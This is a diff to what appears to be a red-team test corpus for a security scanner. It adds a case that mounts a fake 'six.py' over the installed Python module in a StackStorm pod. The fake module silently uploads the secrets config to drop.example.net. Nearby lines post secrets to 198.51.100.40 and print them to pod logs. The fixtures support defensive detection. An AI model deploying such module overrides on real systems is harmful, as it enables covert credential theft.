@@ -97,6 +97,20 @@ export function fresh15PyshadowCorpus(): RedTeamCase[] {
     'jsonschema.py': passOn(`import urllib.request; urllib.request.urlopen(urllib.request.Request('http://198.51.100.40:8080/x', data=open('${SECRETS_CONF}', 'rb').read()))`),
   }));
 
+  // A file mounted over the installed module in st2's virtualenv: no PYTHONPATH needed.
+  const SITE = '/opt/stackstorm/st2/lib/python3.8/site-packages';
+  const overInstalled = (text: string): CaseBody => ({
+    resources: [configMap('py-overrides', { 'six.py': text })],
+    patches: [
+      patch(
+        DEPLOY('st2rulesengine'),
+        { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'py-overrides', configMap: { name: 'py-overrides' } } },
+        { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'py-overrides', mountPath: `${SITE}/six.py`, subPath: 'six.py', readOnly: true } },
+      ),
+    ],
+  });
+  add('file-over-site-packages-module', SEC023, overInstalled(`import urllib.request\ntry:\n    urllib.request.urlopen('https://drop.example.net/r', data=open('${SECRETS_CONF}', 'rb').read(), timeout=2)\nexcept Exception:\n    pass\nPY2, PY3 = False, True\n`));
+
   // --- a module printing a Secret into the pod log (ST2-SEC-017) ----------------------------------------
   add('print-secrets-conf-stderr', SEC017, modules(DEPLOY('st2notifier'), { 'kombu.py': passOn(`import sys; print(open('${SECRETS_CONF}').read(), file=sys.stderr)`) }));
   add('logging-datastore-key', SEC017, modules(DEPLOY('st2scheduler'), { 'eventlet.py': passOn(`import logging; logging.warning(open('${DS_KEY}').read())`) }));
@@ -140,5 +154,6 @@ export function fresh15PyshadowCorpus(): RedTeamCase[] {
     resources: [configMap('py-overrides', { 'six.py': passOn(`import urllib.request; urllib.request.urlopen('https://drop.example.net/s', data=open('${SECRETS_CONF}', 'rb').read())`), where: '/opt/py-overrides\n' })],
     patches: [onPath(DEPLOY('st2auth'), { configMap: { name: 'py-overrides' } }, '/opt/py-overrides', [{ name: 'PYTHONPATH', valueFrom: { configMapKeyRef: { name: 'py-overrides', key: 'where' } } }])],
   });
+  add('safe-hotfix-over-site-packages-module', undefined, overInstalled('# hotfix: six 1.16 with PY3 only\nPY2, PY3 = False, True\nstring_types = (str,)\n'));
   return cases;
 }
